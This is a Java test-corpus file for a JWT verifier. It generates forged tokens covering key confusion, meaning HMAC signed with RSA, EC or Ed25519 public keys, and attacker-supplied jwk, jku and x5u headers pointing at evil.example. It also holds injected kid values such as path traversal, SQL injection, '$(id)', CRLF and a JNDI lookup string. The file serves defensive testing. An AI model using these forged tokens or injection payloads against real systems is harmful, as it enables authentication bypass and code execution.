package dev.latchkey.guard.corpus;

import static dev.latchkey.guard.corpus.Mint.CLAIMS;
import static dev.latchkey.guard.corpus.Mint.utf8;

import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.RSAKey;
import dev.latchkey.token.Json;
import java.nio.ByteBuffer;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Which key a token wants to be verified with. */
final class KeyCases {
    private static final String CONFUSED = "what is public is no secret: RFC 8725 §2.1, §3.1";
    private static final String BROUGHT = "only keys that the issuer publishes: RFC 9068 §4, RFC 8725 §3.10";
    private static final String UNNAMED = "{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}";

    private KeyCases() {}

    static List<Case> all() {
        Family family = new Family("Keys");
        named(family);
        confused(family);
        brought(family);
        injected(family);
        return family.cases();
    }

    private static void named(Family family) {
        family.good("no kid", Mint.withHeader(UNNAMED), "optional: RFC 7515 §4.1.4");
        family.good(
                "its own key as jwk, and the kid",
                Mint.withHeaderAnd(",\"jwk\":" + Keys.jwk("es256").toPublicJWK().toJSONString()),
                "need not be looked at: RFC 7515 §4.1.3");
        family.good(
                "jku of somebody else, and the kid",
                Mint.withHeaderAnd(",\"jku\":\"https://evil.example/jwks\""),
                "need not be looked at: RFC 7515 §4.1.2");
        family.bad("another's key of the same kid", Mint.token(Mint.HEADER, CLAIMS, "stranger"), BROUGHT);
        family.bad("another's key, no kid", Mint.token(UNNAMED, CLAIMS, "stranger"), BROUGHT);
        family.bad(
                "RS256",
                "another's RSA key",
                Mint.token(Mint.header("RS256", "rs256"), CLAIMS, "stranger-rsa"),
                BROUGHT);
        for (String keyId : List.of("unknown", "", "ES256", "es256 ", "es384", "rs256")) {
            family.open(
                    "kid '" + keyId + "' over a right signature",
                    Mint.withHeader(Mint.header("ES256", keyId)),
                    "a hint: RFC 7515 §4.1.4");
        }
        for (String value : List.of("1", "null", "[\"es256\"]", "{}")) {
            family.bad(
                    "kid " + value,
                    Mint.withHeader("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":" + value + "}"),
                    "a string: RFC 7515 §4.1.4");
        }
    }

    private static void confused(Family family) {
        RSAKey rsa = Keys.jwk("rs256").toRSAKey();
        ECKey ec = Keys.jwk("es256").toECKey();
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        spell(secrets, "RSA key", Keys.publicKey("rs256").getEncoded());
        secrets.put("RSA key as JWK", utf8(rsa.toPublicJWK().toJSONString()));
        secrets.put("RSA modulus", rsa.getModulus().decode());
        secrets.put("RSA modulus in base64url", utf8(rsa.getModulus().toString()));
        secrets.put("key set", utf8(Keys.published()));
        secrets.put("kid, repeated", utf8("rs256".repeat(13)));
        confuse(family, secrets, "rs256");
        Map<String, byte[]> points = new LinkedHashMap<>();
        spell(points, "EC key", Keys.publicKey("es256").getEncoded());
        points.put("EC key as JWK", utf8(ec.toPublicJWK().toJSONString()));
        points.put("EC point", point(ec));
        points.put("x of the EC point", ec.getX().decode());
        points.put("zeros", new byte[32]);
        confuse(family, points, "es256");
        byte[] edwards = Keys.jwk("eddsa").toOctetKeyPair().getDecodedX();
        confuse(family, Map.of("Ed25519 key", edwards), "eddsa");
        byte[] pem = secrets.get("RSA key in PEM");
        family.bad(
                "HS384 with the RSA key in PEM", Mint.withMac(Mint.header("HS384", "rs256"), "HS384", pem), CONFUSED);
        family.bad(
                "HS512 with the RSA key in PEM", Mint.withMac(Mint.header("HS512", "rs256"), "HS512", pem), CONFUSED);
        family.bad(
                "RS256",
                "RS256 over a MAC with the RSA key in PEM",
                Mint.withMac(Mint.header("RS256", "rs256"), "HS256", pem),
                CONFUSED);
    }

    private static void spell(Map<String, byte[]> secrets, String name, byte[] der) {
        String body = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        String pem = "-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----";
        secrets.put(name + " in DER", der);
        secrets.put(name + " in DER in base64", Base64.getEncoder().encode(der));
        secrets.put(name + " in PEM", utf8(pem));
        secrets.put(name + " in PEM, line feed behind", utf8(pem + "\n"));
        secrets.put(name + " in PEM, CR LF", utf8(pem.replace("\n", "\r\n") + "\r\n"));
    }

    private static void confuse(Family family, Map<String, byte[]> secrets, String keyId) {
        secrets.forEach((name, secret) -> {
            family.bad("HS256 with the " + name, Mint.withMac(Mint.header("HS256", keyId), "HS256", secret), CONFUSED);
            if (name.endsWith("PEM")) {
                String unnamed = "{\"alg\":\"HS256\",\"typ\":\"at+jwt\"}";
                family.bad("HS256 with the " + name + ", no kid", Mint.withMac(unnamed, "HS256", secret), CONFUSED);
            }
        });
    }

    private static byte[] point(ECKey key) {
        return ByteBuffer.allocate(65)
                .put((byte) 4)
                .put(key.getX().decode())
                .put(key.getY().decode())
                .array();
    }

    private static void brought(Family family) {
        String stranger = Keys.jwk("stranger").toPublicJWK().toJSONString();
        for (String member : List.of(
                "\"jwk\":" + stranger,
                "\"kid\":\"es256\",\"jwk\":" + stranger,
                "\"jku\":\"https://evil.example/jwks\"",
                "\"jku\":\"http://127.0.0.1:1/jwks\"",
                "\"jku\":\"https://login.example@evil.example/jwks\"",
                "\"kid\":\"es256\",\"jku\":\"https://evil.example/jwks\"",
                "\"x5u\":\"https://evil.example/chain.pem\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAA\"")) {
            String header = "{\"alg\":\"ES256\",\"typ\":\"at+jwt\"," + member + "}";
            String name = member.length() > 60 ? member.substring(0, member.indexOf(stranger)) + "{…}" : member;
            family.bad("another's key, brought by `" + name + "`", Mint.token(header, CLAIMS, "stranger"), BROUGHT);
        }
    }

    /** What a look-up of keys in files, tables or the network would fall for. */
    private static void injected(Family family) {
        for (String keyId : List.of(
                "../../../../dev/null",
                "/proc/sys/kernel/randomize_va_space",
                "' UNION SELECT 'secret' --",
                "https://evil.example/jwks#es256",
                "es256\u0000.pem",
                "$(id)",
                "es256\r\nX-Evil: 1",
                "${jndi:ldap://evil.example/a}")) {
            String header = "{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":" + Json.write(keyId) + "}";
            String name = Json.write(keyId).replace("\"", "");
            family.bad("another's key, kid `" + name + "`", Mint.token(header, CLAIMS, "stranger"), BROUGHT);
        }
        family.bad(
                "HS256 with a secret of zeros, kid `/dev/null`",
                Mint.withMac(Mint.header("HS256", "/dev/null"), "HS256", new byte[32]),
                BROUGHT);
    }
}
